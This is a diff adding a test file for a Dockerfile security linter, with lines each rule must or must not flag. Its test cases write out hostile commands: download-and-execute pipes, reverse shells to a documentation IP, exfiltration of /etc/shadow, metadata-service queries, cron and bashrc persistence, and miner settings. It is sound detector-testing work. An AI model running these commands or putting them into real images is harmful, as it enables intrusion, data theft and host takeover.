@@ -1,0 +1,409 @@
+import { readdirSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import type { Severity } from '../../model/incident.js';
+import { analyse } from '../analyse.js';
+import { ruleCatches } from '../fixtures/catches.js';
+import { rules } from './index.js';
+
+const far = 'http://203.0.113.9/x';
+const named = 'https://get.example.org/x';
+const key = `-----BEGIN ${'RSA PRIVATE'} KEY-----`;
+const gitHub = `ghp_${'a1B2'.repeat(9)}`;
+
+/** One line a case: a Dockerfile, and the severity that it must have where that is the point. */
+const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string[] }> = {
+  'download-executed': {
+    catches: [
+      [`RUN wget -qO- ${far} | sh`, 'High'],
+      ['RUN curl -s http://get.example.org/i | bash', 'High'],
+      [`RUN curl -k ${named} | sh`, 'High'],
+      [`RUN curl -o /m ${far} && chmod +x /m`, 'High'],
+      [`RUN wget ${far} -O /m && chmod 755 /m && /m`, 'High'],
+      [`RUN wget ${far} -O /m\nRUN sh /m`, 'High'],
+      [`RUN cd /opt && wget ${far} && ./x`, 'High'],
+      [`ADD ${far} /usr/bin/x\nENTRYPOINT ["x"]`, 'High'],
+      [`FROM a AS b\nRUN wget ${far} -O /m\nFROM c\nCOPY --from=b /m /bin/m\nCMD /bin/m`, 'High'],
+      [`FROM a AS b\nRUN wget ${far} -O /o/m\nFROM c\nCOPY --from=b /o/ /bin/\nRUN m`, 'High'],
+      ['ARG A=203.0.113\nENV U=http://$A.9/x\nRUN wget -O- ${U}|sh', 'High'],
+      ['ARG A=203.0.113.9\nFROM x\nARG A\nRUN curl $A/x | sh', 'High'],
+      [`RUN a=cu; b=rl; $a$b ${far} | sh`, 'High'],
+      [`RUN sh -c "$(curl -fsSL ${far})"`, 'High'],
+      [`RUN bash <(curl -s ${far})`, 'High'],
+      [`RUN eval "\`wget -qO- ${far}\`"`, 'High'],
+      [`RUN source <(curl -s ${far})`, 'High'],
+      [`RUN curl ${far} \\\n  | tee /tmp/l \\\n  | sudo -E bash -s -- -y`, 'High'],
+      [`RUN f() { "$@" | sh; }; f curl ${far}`, 'High'],
+      [`RUN echo ${far} | xargs curl -s | sh`, 'High'],
+      [`RUN (curl ${far}) | (cat | sh)`, 'High'],
+      [`RUN <<EOF\ncurl ${far} | sh\nEOF`, 'High'],
+      [`RUN bash <<EOF\ncurl ${far} | sh\nEOF`, 'High'],
+      [`COPY <<EOF /r.sh\ncurl ${far} | sh\nEOF\nRUN sh /r.sh`, 'High'],
+      [`RUN ["/bin/sh", "-c", "curl ${far} | sh"]`, 'High'],
+      [`SHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN curl ${far} | sh`, 'High'],
+      [`RUN python3 -c "import urllib.request as u; exec(u.urlopen('${far}').read())"`, 'High'],
+      [`RUN python -c 'import os; os.system("curl ${far} | sh")'`, 'High'],
+      [`RUN perl -e 'use LWP::Simple; eval get("${far}")'`, 'High'],
+      [
+        `RUN <<EOF\n#!/usr/bin/env python3\nimport requests\nexec(requests.get("${far}").text)\nEOF`,
+        'High',
+      ],
+      ['RUN exec 3<>/dev/tcp/203.0.113.9/80; cat <&3 | sh', 'High'],
+      [`RUN curl http://1481637/x | sh`, 'High'],
+      [`RUN curl 'http://[2001:db8::1]/x' | sh`, 'High'],
+      [`RUN curl -s ${far} | tar xz -C /opt && /opt/x/run`, 'High'],
+      [`RUN pip install ${far}.tar.gz`, 'High'],
+      [`RUN dpkg -i x.deb; wget ${far}.deb; dpkg -i x.deb`, 'High'],
+      [`RUN dig +short TXT x.example.org | sh`, 'High'],
+      [`RUN if true; then curl ${far} | sh; fi`, 'High'],
+      [`RUN for u in a ${far}; do curl $u | sh; done`, 'High'],
+      [`RUN wget\${IFS}-O-\${IFS}${far}|sh`, 'High'],
+      [`RUN {curl,${far}} | sh`, 'High'],
+      [`RUN $'\\x63url' ${far} | sh`, 'High'],
+      [`RUN curl ${far} | base64 -d | gunzip | sh`, 'High'],
+      [`RUN curl ${far} -o /x; echo "$(sha256sum /x)"; sh /x`, 'Low'],
+      ['RUN curl -s "$WHERE" | sh', 'Medium'],
+      ['RUN wget http://example.org/a.tgz && tar xf a.tgz && cd a && ./configure', 'Low'],
+      ['SHELL ["powershell", "-Command"]\nRUN iex (iwr http://203.0.113.9/x)', 'High'],
+    ],
+    catchesNot: [
+      `RUN curl -fsSL ${named} | sh`,
+      'RUN curl -fsSL https://deb.example.org/key.gpg | gpg --dearmor -o /k.gpg',
+      'RUN curl -L https://example.org/a.tgz | tar xz && cd a && ./configure && make',
+      'RUN curl -L http://example.org/a.tgz | tar xz -C /opt',
+      'RUN apt-get install -y curl; echo done | sh',
+      'RUN make && ./configure | sh',
+      'RUN V=$(curl -s http://example.org/v | cut -d, -f1); sh -c "echo $V"',
+      'RUN curl -fsS http://localhost:8080/health | sh',
+      'RUN wget -O /g https://example.org/g && echo "abc  /g" | sha256sum -c - && chmod +x /g && /g',
+      'HEALTHCHECK CMD curl -f http://localhost/ || exit 1',
+    ],
+  },
+  'remote-script': {
+    catches: [
+      ['RUN curl https://sh.rustup.rs -sSf | sh -s -- -y', 'Low'],
+      ['RUN curl -fsSLo /i.sh https://example.org/i.sh && bash /i.sh', 'Low'],
+      ['RUN curl -s https://pastebin.com/raw/abc | sh', 'High'],
+    ],
+    catchesNot: [
+      'RUN curl -o i https://example.org/i && echo "abc  i" | sha256sum -c && sh i',
+      'RUN curl -o i https://example.org/i && curl -o i.asc https://example.org/i.asc && gpg --verify i.asc i && sh i',
+      'RUN curl -o i https://example.org/i && [ "$(sha256sum i | cut -d" " -f1)" = abc ] && sh i',
+      'RUN curl -L https://example.org/a.tgz | tar xz',
+    ],
+  },
+  'decoded-into-shell': {
+    catches: [
+      ['RUN echo ZWNobyBoaQ== | base64 -d | sh', 'High'],
+      ['RUN echo 6563686f | xxd -r -p | bash'],
+      ["RUN printf '\\x65\\x63\\x68\\x6f hi' | sh"],
+      ["RUN echo -e '\\145\\143\\150\\157 hi' | sh"],
+      ['RUN eval "$(echo aGkgdGhlcmU= | base64 --decode)"'],
+      ['RUN sh -c "set -e; $(echo ZWNobyBoaQ== | base64 -d)"'],
+      ['RUN python3 -c "import base64; exec(base64.b64decode(\'cHJpbnQoMSk=\'))"'],
+      ['RUN echo U2Fs | openssl enc -aes-256-cbc -d -k x | sh'],
+      ['RUN openssl enc -d -aes-256-cbc -in p -out /r && sh /r'],
+      ['ENV P=ZWNobyBoaQ==\nRUN echo $P | base64 -d > /r\nRUN sh /r'],
+      ['RUN rev <<< "ih ohce" | sh'],
+      ["RUN echo rpub | tr 'a-z' 'n-za-m' | sh"],
+      ['RUN bash -c "{echo,ZWNobyBoaQ==}|{base64,-d}|bash"'],
+    ],
+    catchesNot: [
+      'RUN echo "$CERT" | base64 -d > /cert.pem',
+      "RUN printf 'a\\nb' > /x && sh /x",
+      'RUN base64 -d k | gpg --import',
+      'RUN echo HI | tr A-Z a-z | sh',
+      'RUN echo "$(echo aGk= | base64 -d)"',
+    ],
+  },
+  'raw-address': {
+    catches: [
+      [`RUN curl -O ${far}`, 'High'],
+      [`ADD ${far} /x`, 'High'],
+      ['RUN wget http://0xcb007109/x', 'High'],
+      ['RUN curl http://203-0-113-9.nip.io/', 'High'],
+      ['RUN curl -O https://example.org:4444/x', 'Medium'],
+      ['RUN curl -O http://10.1.2.3/x', 'Low'],
+    ],
+    catchesNot: [
+      'RUN curl -O http://127.0.0.1:9/x',
+      `RUN curl -O ${named}`,
+      'RUN curl http://${HOST}:81/',
+    ],
+  },
+  'tls-unchecked': {
+    catches: [
+      [`RUN curl -kO ${named}`],
+      [`RUN wget --no-check-certificate ${named}`],
+      ['RUN git config --global http.sslVerify false'],
+      ['RUN git -c http.sslVerify=false clone https://example.org/a.git'],
+      ['RUN pip install --trusted-host pypi.org x'],
+      ['RUN npm config set strict-ssl false'],
+      ['ENV NODE_TLS_REJECT_UNAUTHORIZED=0'],
+      ['ENV GIT_SSL_NO_VERIFY 1'],
+      ['RUN apt-get -o Acquire::https::Verify-Peer=false update'],
+      ['RUN echo insecure >> ~/.curlrc'],
+    ],
+    catchesNot: [
+      `RUN curl -fsSL ${named}`,
+      'RUN npm config set strict-ssl true',
+      'ENV NODE_ENV=production',
+    ],
+  },
+  'packages-unsigned': {
+    catches: [
+      ['RUN apt-get install -y --allow-unauthenticated x'],
+      ['RUN echo "deb [trusted=yes] http://example.org ./" > /etc/apt/sources.list.d/x.list'],
+      ['RUN apk add --allow-untrusted x.apk'],
+      ['RUN yum install --nogpgcheck -y x'],
+      ['RUN apt-get -o Acquire::AllowInsecureRepositories=true update'],
+    ],
+    catchesNot: ['RUN apt-get install -y x', 'RUN apk add x'],
+  },
+  'add-url': {
+    catches: [
+      ['ADD https://example.org/a /a', 'Low'],
+      ['ADD http://example.org/a /a', 'Medium'],
+    ],
+    catchesNot: [
+      'ADD --checksum=sha256:abc https://example.org/a /a',
+      'ADD a.tgz /a',
+      'ADD https://example.org/a.git#v1 /a',
+    ],
+  },
+  miner: {
+    catches: [
+      [
+        'RUN wget https://github.com/xmrig/xmrig/releases/download/v6/xmrig-6-linux.tar.gz',
+        'Critical',
+      ],
+      ['CMD ["/m", "-o", "stratum+tcp://pool.example:3333"]'],
+      ['ENV POOL=gulf.moneroocean.stream:10128'],
+      ['RUN ./a --donate-level 1 --coin monero'],
+      ['FROM user/xmrig:latest'],
+      ['RUN echo c3RyYXR1bSt0Y3A6Ly94Onk= | base64 -d > /c'],
+      ['COPY minerd /usr/bin/'],
+    ],
+    catchesNot: ['RUN apt-get install -y determiner', 'FROM minio/minio', 'RUN echo stratum'],
+  },
+  tunnel: {
+    catches: [
+      ['RUN ngrok http 80', 'High'],
+      ['CMD ["cloudflared", "tunnel", "run"]', 'Medium'],
+      ['RUN wget https://github.com/fatedier/frp/releases/download/v1/frp.tar.gz', 'Medium'],
+      ['RUN chisel client 203.0.113.9:80 R:1:2', 'High'],
+      ['RUN ssh -fNR 80:localhost:80 a@example.org', 'High'],
+    ],
+    catchesNot: [
+      'RUN chisel cut --release ubuntu-24.04 libc6',
+      'RUN ngrok --version',
+      'RUN ssh-keyscan github.com',
+    ],
+  },
+  'reverse-shell': {
+    catches: [
+      ['RUN bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'High'],
+      ['CMD bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"', 'High'],
+      ['RUN nc -e /bin/sh 203.0.113.9 4444', 'High'],
+      ['RUN socat exec:"/bin/sh" tcp:203.0.113.9:4444', 'High'],
+    ],
+    catchesNot: ['HEALTHCHECK CMD bash -c "exec 3<>/dev/tcp/127.0.0.1/80"', 'RUN nc -z db 5432'],
+  },
+  scanner: {
+    catches: [
+      ['RUN masscan 0.0.0.0/0 -p2375', 'High'],
+      ['RUN apt-get install -y masscan', 'Medium'],
+    ],
+    catchesNot: ['RUN apt-get install -y nmap'],
+  },
+  'data-sent': {
+    catches: [
+      ['RUN curl -F f=@/etc/passwd http://203.0.113.9/', 'High'],
+      ['RUN curl -d "$(env)" https://example.org/', 'Medium'],
+      ['RUN env | nc 203.0.113.9 80', 'High'],
+      ['RUN nslookup $(cat /etc/hostname | base64).x.example.org', 'High'],
+      ['RUN wget --post-file=/etc/shadow http://203.0.113.9/', 'High'],
+    ],
+    catchesNot: [
+      `RUN curl -d '{"query":"x"}' https://api.example.org/`,
+      'RUN nslookup example.org',
+      'RUN curl -H @h https://example.org',
+    ],
+  },
+  'engine-api': {
+    catches: [
+      ['RUN curl --unix-socket /var/run/docker.sock http://x/containers/json', 'High'],
+      ['RUN curl http://172.17.0.1:2375/containers/json', 'High'],
+      ['RUN docker -H tcp://172.17.0.1:2375 run alpine', 'High'],
+      ['RUN DOCKER_HOST=tcp://172.17.0.1:2375 docker ps', 'High'],
+      ['RUN curl -k https://10.0.0.1:10250/pods', 'High'],
+    ],
+    catchesNot: [
+      'ENV DOCKER_HOST=tcp://docker:2375',
+      'EXPOSE 2375',
+      'RUN docker --version',
+      'VOLUME /var/run/docker.sock',
+    ],
+  },
+  'metadata-service': {
+    catches: [
+      ['RUN curl http://169.254.169.254/latest/meta-data/', 'High'],
+      ['RUN curl http://2852039166/latest/', 'High'],
+      ['RUN wget -O- http://metadata.google.internal/', 'High'],
+      ['RUN curl "http://[fd00:ec2::254]/"', 'High'],
+      ['RUN curl http://100.100.100.200/', 'High'],
+    ],
+    catchesNot: ['RUN echo 169.254.169.254 metadata', 'ENV NO_PROXY=169.254.169.254'],
+  },
+  'host-files': {
+    catches: [
+      ['CMD chroot /host sh', 'High'],
+      ['CMD echo x > /host/etc/x', 'High'],
+      ['CMD nsenter -t 1 -m sh', 'High'],
+      ['CMD echo "|/x" > /proc/sys/kernel/core_pattern', 'High'],
+    ],
+    catchesNot: ['RUN echo x > /rootfs/etc/passwd', 'RUN mkdir /host'],
+  },
+  'authorized-keys': {
+    catches: [
+      ['RUN echo ssh-rsa A >> /root/.ssh/authorized_keys', 'Medium'],
+      ['COPY k.pub /root/.ssh/authorized_keys', 'Medium'],
+      ['CMD echo k >> /host/root/.ssh/authorized_keys', 'High'],
+    ],
+    catchesNot: ['RUN ssh-keyscan github.com >> /root/.ssh/known_hosts'],
+  },
+  'cron-job': {
+    catches: [
+      [`RUN echo "* * * * * root curl ${far} | sh" > /etc/cron.d/x`, 'High'],
+      [`RUN (crontab -l; echo "@hourly wget -O- ${far}|sh") | crontab -`, 'High'],
+      ['COPY job /etc/cron.d/job', 'Low'],
+    ],
+    catchesNot: ['RUN apt-get install -y cron', 'RUN crontab -l'],
+  },
+  'startup-file': {
+    catches: [
+      [`RUN echo "curl ${far} | sh" >> ~/.bashrc`, 'High'],
+      [`RUN echo 'wget -O- ${far}|sh' > /etc/profile.d/x.sh`],
+    ],
+    catchesNot: ['RUN echo "export A=1" >> ~/.bashrc', 'COPY p.sh /etc/profile.d/'],
+  },
+  setuid: {
+    catches: [
+      ['RUN chmod u+s /bin/bash', 'High'],
+      ['RUN chmod 4755 /usr/bin/x', 'Medium'],
+      ['RUN setcap cap_sys_admin+ep /x'],
+      ['RUN install -m 4755 x /usr/bin/x'],
+    ],
+    catchesNot: [
+      'RUN chmod 2775 /shared',
+      'RUN chmod -R g+s /shared',
+      'RUN chmod 0755 /x',
+      'RUN setcap cap_net_bind_service=+ep /x',
+      'RUN chmod a-s /x',
+    ],
+  },
+  preload: {
+    catches: [
+      ['RUN echo /lib/evil.so > /etc/ld.so.preload', 'High'],
+      ['ENV LD_PRELOAD=/tmp/x.so', 'High'],
+      ['COPY x /etc/ld.so.preload'],
+    ],
+    catchesNot: ['ENV LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'],
+  },
+  'onbuild-trap': {
+    catches: [
+      [`ONBUILD RUN curl ${far} | sh`, 'High'],
+      [`ONBUILD RUN curl ${named} | sh`, 'Medium'],
+      ['ONBUILD ADD https://example.org/x /x', 'Medium'],
+      ['ONBUILD RUN echo aGk= | base64 -d | sh', 'High'],
+    ],
+    catchesNot: ['ONBUILD RUN npm install', 'ONBUILD COPY . /app', `RUN curl ${named} | sh`],
+  },
+  'lookalike-image': {
+    catches: [
+      ['FROM ngnix', 'High'],
+      ['FROM debain:12', 'High'],
+      ['FROM p0stgres', 'High'],
+      ['FROM аlpine', 'High'],
+      ['FROM docker.io.example.com/library/nginx', 'High'],
+      ['FROM gcr.lo/a/b', 'High'],
+      ['FROM 1ibrary/nginx', 'High'],
+      ['FROM alpine:1atest', 'Medium'],
+    ],
+    catchesNot: [
+      'FROM nginx',
+      'FROM bitnami/nginx',
+      'FROM mono',
+      'FROM eu.gcr.io/a/b',
+      'FROM index.docker.io/library/nginx',
+      'FROM a AS builde\nFROM builde',
+      'FROM $BASE',
+      'FROM lscr.io/linuxserver/nginx',
+      'FROM scratch',
+    ],
+  },
+  'unpinned-base': {
+    catches: [['FROM alpine', 'Informational'], ['FROM r.example:5000/a:latest']],
+    catchesNot: [
+      'FROM alpine:3.19',
+      'FROM alpine@sha256:abc',
+      'FROM scratch',
+      'FROM a:1 AS b\nFROM b',
+    ],
+  },
+  'secret-file': {
+    catches: [
+      ['COPY id_rsa /root/.ssh/'],
+      ['COPY .aws /root/.aws'],
+      ['ADD ["a/.netrc", "/root/"]'],
+    ],
+    catchesNot: ['COPY id_rsa.pub /k', 'COPY --from=b /etc/server.key /k', 'COPY package.json .'],
+  },
+  'secret-setting': {
+    catches: [['ENV DB_PASSWORD=hunter2'], ['ARG API_KEY=abc123'], ['ENV DB_PASSWORD hunter2']],
+    catchesNot: [
+      'ARG NPM_TOKEN',
+      'ENV GPG_KEY=E3FF2839',
+      'ENV DB_PASSWORD_FILE=/run/secrets/x',
+      'ENV TOKEN=$TOKEN',
+      'ENV ALLOW_EMPTY_PASSWORD=yes',
+    ],
+  },
+  'secret-value': {
+    catches: [
+      [`ENV T=${gitHub}`, 'High'],
+      [`RUN echo "${key}" > /k`, 'High'],
+      ['RUN git clone https://me:s3cret@example.org/a.git', 'Medium'],
+    ],
+    catchesNot: [
+      'RUN git clone https://me:$TOKEN@example.org/a.git',
+      'ENV A=AKIAIOSFODNN7EXAMPLE',
+      'RUN git clone https://example.org/a.git',
+    ],
+  },
+};
+
+describe.each(rules)('$id', (rule) => {
+  const { catches, catchesNot } = cases[rule.id] ?? { catches: [], catchesNot: [] };
+  it.each(catches)('catches %s', (text, severity) => {
+    const found = ruleCatches(rule, text);
+    expect(found).toBe(severity ?? found ?? 'something');
+  });
+  it.each(catchesNot)('does not catch %s', (text) =>
+    expect(ruleCatches(rule, text)).toBeUndefined(),
+  );
+  it('has cases of both kinds, and says what to do', () => {
+    expect([catches.length, catchesNot.length]).not.toContain(0);
+    expect(rule.why && rule.instead).toBeTruthy();
+  });
+});
+
+it('has a file for each rule, by its id', () => {
+  const files = readdirSync(import.meta.dirname).filter((file) => !/index|test/.test(file));
+  expect(rules.map(({ id }) => `${id}.ts`).sort()).toEqual(files.sort());
+});
+
+it('never tells the value of a secret', () => {
+  const text = `ENV T=${gitHub} DB_PASSWORD=hunter2\nRUN curl https://me:s3cret@example.org/x | sh\n`;
+  const told = JSON.stringify(rules.flatMap(({ find }) => find(analyse(text))));
+  for (const secret of [gitHub, 'hunter2', 's3cret']) expect(told).not.toContain(secret);
+});
